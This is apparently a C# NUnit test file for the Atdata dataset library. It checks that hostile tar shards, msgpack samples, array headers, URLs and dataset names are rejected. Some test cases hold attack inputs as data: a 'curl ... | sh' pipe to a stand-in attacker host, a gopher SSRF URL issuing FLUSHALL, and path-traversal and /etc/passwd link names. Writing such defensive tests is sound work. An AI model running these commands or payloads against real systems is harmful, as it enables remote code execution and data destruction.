using System.Buffers.Binary;
using System.Security.Cryptography;
using Atdata.Generators.Tests.Infrastructure;
using Atdata.Local;
using Atdata.Reliability.Tests.Corpus;
using Atdata.Reliability.Tests.Infrastructure;
using Atdata.Runtime.Tests.Shards;
using NUnit.Framework;
using static Atdata.Runtime.Tests.Arrays.ArrayTestSupport;

namespace Atdata.Reliability.Tests.Cases;

/// <summary>
/// One named test per hostile-input case of the reliability guide (section 3), each driving the public API
/// directly (the corpus replays many more variants of each).
/// </summary>
[TestFixture]
[Category("Cases")]
public sealed class InputCaseTests
{
    private static readonly byte[] s_sample = ShardTestHelpers.Msgpack(1);

    private static T ReadShardExpecting<T>(byte[] shard, ShardReaderOptions? options = null, string url = "case.tar")
        where T : Exception
    {
        var ex = Assert.ThrowsAsync<T>(async () => await ShardTestHelpers.ReadAllAsync(shard, options, url))!;
        SecretScan.Record(ex);
        return ex;
    }

    [Test]
    [Category("CWE-125")]
    public async Task F10_TruncatedShard_RaisesShardTruncatedException_AndSkipShardKeepsEarlierShards()
    {
        var good = new TarBuilder().Sample("a", s_sample).Sample("b", s_sample).End().ToArray();
        var ex = ReadShardExpecting<ShardTruncatedException>(good[..(1024 + 300)]);
        Assert.That(ex.ShardUrl, Is.EqualTo("case.tar"));
        Assert.That(ex.Offset, Is.EqualTo(1024));
        Assert.That(ReadShardExpecting<ShardTruncatedException>([]).Message, Does.Contain("empty"));

        // SkipShard: the first shard's samples are kept, the truncated one is counted.
        using var dir = new TempDir();
        await File.WriteAllBytesAsync(dir["0.tar"], good);
        await File.WriteAllBytesAsync(dir["1.tar"], good[..(1024 + 300)]);
        var dataset = new Dataset<DynamicSample>(new FileShardSource([dir["0.tar"], dir["1.tar"]]), "case", new DatasetOptions { ErrorPolicy = DatasetErrorPolicy.SkipShard });
        int count = 0;
        await foreach (var _ in dataset.Ordered())
        {
            count++;
        }

        Assert.That(count, Is.EqualTo(2));
        Assert.That(dataset.Statistics.ShardsSkipped, Is.EqualTo(1));
    }

    [Test]
    [Category("CWE-354")]
    public void F11_FlippedBytesAndBadHeaderChecksum_RaiseShardIntegrityException()
    {
        var tar = new TarBuilder().Sample("a", s_sample).End().ToArray();
        string sha = Convert.ToHexStringLower(SHA256.HashData(tar));
        tar[520] ^= 0xff;
        var ex = ReadShardExpecting<ShardIntegrityException>(tar, new ShardReaderOptions { ExpectedChecksums = new Dictionary<string, string> { ["case.tar"] = sha } });
        Assert.That(ex.ExpectedSha256, Is.EqualTo(sha));
        var badHeader = new TarBuilder().Raw(TarBuilder.Header("x.msgpack"u8, s_sample.Length, after: h => h[0] ^= 1)).Data(s_sample).End().ToArray();
        ReadShardExpecting<ShardIntegrityException>(badHeader);
    }

    [TestCase(new byte[] { 0x28, 0xb5, 0x2f, 0xfd, 0x04, 0x58 }, TestName = "F12_ZstdShard_RaisesShardFormatException_Compressed")]
    [TestCase(new byte[] { 0x42, 0x5a, 0x68, 0x39, 0x31, 0x41, 0x59, 0x26, 0x53, 0x59 }, TestName = "F12_Bzip2Shard_RaisesShardFormatException_Compressed")]
    [Category("CWE-20")]
    public void F12_CompressedShard_RaisesShardFormatException(byte[] magic)
    {
        var ex = ReadShardExpecting<ShardFormatException>([.. magic, .. new byte[2000]]);
        Assert.That(ex.Error, Is.EqualTo(ShardFormatError.Compressed));
        Assert.That(ex.Message, Does.Contain("compressed"));
        Assert.That(ReadShardExpecting<ShardFormatException>(System.Text.Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("not a tar, just text\n", 60)))).Error, Is.EqualTo(ShardFormatError.NotATar));
    }

    [Test]
    [Category("CWE-789")]
    public void F13_HeadersDeclaringHugeSizes_AreRejectedBeforeAllocating()
    {
        foreach (var tar in new[]
        {
            new TarBuilder().Raw(TarBuilder.Header("././@PaxHeader"u8, 1L << 30, (byte)'x')).Raw(new byte[4096]).ToArray(),
            new TarBuilder().Raw(TarBuilder.Header("././@LongLink"u8, 1L << 30, (byte)'L', gnuMagic: true)).Raw(new byte[4096]).ToArray(),
            new TarBuilder().Raw(TarBuilder.Header("huge.msgpack"u8, 8L << 30)).Raw(new byte[1536]).ToArray(),
        })
        {
            var entry = new ManifestEntry("f13-inline", "inline", "F13", "CWE-789", Targets.ShardReader, nameof(ShardFormatException), null, null, BoundedAllocation: true);
            CorpusReplay.Run(entry, tar);
        }
    }

    [Test]
    [Category("CWE-22")]
    public void F14_TraversalNamesAndLinks_AreRejected_NeverUsedAsPaths()
    {
        var tar = new TarBuilder().Sample("good", s_sample).File("../../etc/evil.msgpack", s_sample).End().ToArray();
        Assert.That(ReadShardExpecting<ShardFormatException>(tar).Error, Is.EqualTo(ShardFormatError.UnsafeMemberName));
        var link = new TarBuilder().Sample("good", s_sample).Raw(TarBuilder.Header("l"u8, 0, (byte)'2', tweak: h => "/etc/passwd"u8.CopyTo(h.AsSpan(157)))).End().ToArray();
        Assert.That(ReadShardExpecting<ShardFormatException>(link, new ShardReaderOptions { NonRegularEntries = NonRegularEntryHandling.Reject }).Error, Is.EqualTo(ShardFormatError.UnsupportedEntryType));
    }

    [Test]
    [Category("CWE-694")]
    public void F15_DuplicateKeyAndSuffix_RaisesShardFormatException_DuplicateMember()
    {
        var ex = ReadShardExpecting<ShardFormatException>(new TarBuilder().Sample("dup", s_sample).Sample("dup", s_sample).End().ToArray());
        Assert.That(ex.Error, Is.EqualTo(ShardFormatError.DuplicateMember));
        Assert.That(ex.Message, Does.Contain("duplicate member"));
    }

    private static SampleFormatException Unpack(byte[] bytes, bool typed = false)
    {
        var ex = Assert.Throws<SampleFormatException>(() =>
        {
            if (typed)
            {
                _ = CorpusRecord.Unpack(bytes);
            }
            else
            {
                _ = DynamicSample.Unpack(bytes);
            }
        })!;
        SecretScan.Record(ex);
        return ex;
    }

    [Test]
    [Category("CWE-20")]
    public void M1_InvalidCodeTruncatedMapOrNonMap_RaiseSampleFormatException_WithOffset()
    {
        var ex = Unpack([0x81, 0xa1, 0x61, 0xc1]);
        Assert.That(ex.Offset, Is.EqualTo(3));
        Assert.That(Unpack([0x82, 0xa1, 0x61, 0x01, 0xa1]).Error, Is.EqualTo(SampleFormatError.Truncated));
        Assert.That(Unpack([0xa3, 0x61, 0x62, 0x63]).Error, Is.EqualTo(SampleFormatError.WrongType));
    }

    [Test]
    [Category("CWE-843")]
    public void M2_WrongFieldType_RaisesSampleFormatException_NamingTheField()
    {
        var bytes = new DynamicSample([new("count", "seven"), new("name", "n")]).Pack();
        var ex = Unpack(bytes, typed: true);
        Assert.That(ex.Error, Is.EqualTo(SampleFormatError.WrongType));
        Assert.That(ex.FieldName, Is.EqualTo("count"));
    }

    [Test]
    [Category("CWE-20")]
    public void M3_MissingRequiredField_IsRejected_ExtraFieldIsIgnored()
    {
        var ex = Unpack(new DynamicSample([new("count", 1L)]).Pack(), typed: true);
        Assert.That(ex.Error, Is.EqualTo(SampleFormatError.MissingField));
        Assert.That(ex.FieldName, Is.EqualTo("name"));

        // Schema-level check of a dynamic sample: SchemaMismatchException.
        var schema = new DynamicSchema(CorpusRecord.Schema);
        Assert.Throws<SchemaMismatchException>(() => schema.EnsureValid(new DynamicSample([new("count", 1L)])));

        var extra = CorpusRecord.Unpack(new DynamicSample([new("count", 1L), new("name", "n"), new("zzz", 3L)]).Pack());
        Assert.That(extra, Is.EqualTo(new CorpusRecord(1, "n")));
    }

    [Test]
    [Category("CWE-674")]
    public void M4_Nesting200000_InKnownAndSkippedFields_RaisesDepthExceeded_ProcessSurvives()
    {
        Assert.That(Unpack([0x81, 0xa1, 0x61, .. Enumerable.Repeat((byte)0x91, 200_000), 0xc0]).Error, Is.EqualTo(SampleFormatError.DepthExceeded));
        byte[] skipped = [0x83, 0xa5, .. "count"u8, 0x01, 0xa4, .. "name"u8, 0xa1, 0x6e, 0xa3, 0x7a, 0x7a, 0x7a, .. Enumerable.Repeat((byte)0x91, 200_000), 0xc0];
        Assert.That(Unpack(skipped, typed: true).Error, Is.EqualTo(SampleFormatError.DepthExceeded));
    }

    [Test]
    [Category("CWE-789")]
    public void M5_LengthHeadersDeclaring2Pow31_RaiseTruncated_WithoutLargeAllocation()
    {
        foreach (byte code in new byte[] { 0xdb, 0xc6, 0xdd, 0xdf })
        {
            byte[] value = [code, 0, 0, 0, 0];
            BinaryPrimitives.WriteUInt32BigEndian(value.AsSpan(1), 0x8000_0000);
            var entry = new ManifestEntry("m5-inline", "inline", "M5", "CWE-789", Targets.SampleDecoder, nameof(SampleFormatException), null, null, BoundedAllocation: true);
            CorpusReplay.Run(entry, [0x81, 0xa1, 0x61, .. value]);
        }
    }

    [Test]
    [Category("CWE-20")]
    public void M6_TrailingBytesAfterTheSampleMap_RaiseSampleFormatException()
        => Assert.That(Unpack([0x81, 0xa1, 0x61, 0x01, 0x00]).Error, Is.EqualTo(SampleFormatError.TrailingBytes));

    [Test]
    [Category("CWE-407")]
    public void M7_TwoHundredThousandKeys_DecodeAndARepeatIsFound()
    {
        var fields = Enumerable.Range(0, 200_000).Select(i => new KeyValuePair<string, object?>("k" + i, 1L)).ToList();
        var bytes = new DynamicSample(fields).Pack();
        Assert.That(DynamicSample.Unpack(bytes).Count, Is.EqualTo(200_000));
        byte[] repeated = [.. new DynamicSample([new("a", 1L), new("b", 1L)]).Pack()];
        repeated[^1] = 2;
        repeated[^2] = (byte)'a';
        Assert.That(Unpack(repeated).Error, Is.EqualTo(SampleFormatError.DuplicateField));
    }

    [Test]
    [Category("CWE-190")]
    public void A1_HostileArrayHeaders_RaiseSampleFormatException_BeforeAllocating()
    {
        foreach (var payload in new[]
        {
            Compact("<f8", [1L << 40, 1L << 40], new byte[8]),
            Compact("<f8", [1L << 32, 1L << 32], []),
            Compact("<f4", [-1], new byte[12]),
            Compact("<f4", Enumerable.Repeat(1L, 33).ToArray(), new byte[4]),
            Compact("|O8", [1], new byte[8]),
            Compact("<f4", [3], new byte[13]),
            Npy("<f4", false, [100_000, 100_000], new byte[16]),
        })
        {
            var entry = new ManifestEntry("a1-inline", "inline", "A1", "CWE-190", Targets.ArrayDecoder, nameof(SampleFormatException), null, null, BoundedAllocation: true);
            CorpusReplay.Run(entry, payload);
        }
    }

    [TestCase("pipe:curl http://attacker.invalid | sh")]
    [TestCase("ftp://example.invalid/a.tar")]
    [TestCase("gopher://127.0.0.1:6379/_FLUSHALL")]
    [Category("CWE-918")]
    public void S2_IndexSuppliedUrlsOutsideTheAllowlist_RaiseShardSourceException(string url)
    {
        var ex = Assert.Throws<ShardSourceException>(() => ShardSources.FromUrl(url))!;
        Assert.That(ex.Error, Is.EqualTo(ShardSourceError.UnsupportedScheme));
        SecretScan.Record(ex);
    }

    [Test]
    [Category("CWE-918")]
    public void S2_S3UrlsOutsideTheConfiguredBucket_AreRefused()
    {
        using var store = new S3DataStore(new S3Credentials("access", SecretScan.S3Secret, "http://127.0.0.1:9"), "mine");
        var ex = Assert.Throws<ShardSourceException>(() => store.OpenSource(["s3://other-bucket/x.tar"]).ListShards())!;
        Assert.That(ex.Error, Is.EqualTo(ShardSourceError.AccessDenied));
        SecretScan.Record(ex);
    }

    [TestCase("../escape")]
    [TestCase("a/b")]
    [TestCase("ctl\u0001char")]
    [TestCase("..")]
    [Category("CWE-22")]
    public void S3_HostileDatasetNames_AreRejectedBeforeUse(string name)
    {
        var ex = Assert.Throws<ArgumentException>(() => LocalIndex.ValidateName(name))!;
        Assert.That(ex.Message, Does.Contain("dataset name"));
        Assert.Throws<ArgumentException>(() => LocalIndex.ValidateName(new string('a', 129)));
    }

    [Test]
    [Category("CWE-94")]
    public void G1_HostileGeneratorInput_GivesDiagnosticsNeverAnException_AndDeterministicOutput()
    {
        const string Source = """
            using Atdata;
            namespace @namespace;
            /// <summary>*/ "quoted" </summary>
            [Packable(Description = "*/ \" end")]
            public partial record @class(int @int, [Field("class")] string Klass, string Nаme);
            """;
        var (first, _) = TestCompilation.Run(Source);
        var (second, _) = TestCompilation.Run(Source);
        Assert.That(first.Results.Select(r => r.Exception), Has.All.Null);
        Assert.That(first.Diagnostics.Select(d => d.Id), Does.Contain("ATD0052").And.Not.Contain("ATD0900"));
        Assert.That(second.Results.SelectMany(r => r.GeneratedSources).Select(s => s.SourceText.ToString()),
            Is.EqualTo(first.Results.SelectMany(r => r.GeneratedSources).Select(s => s.SourceText.ToString())));
    }
}
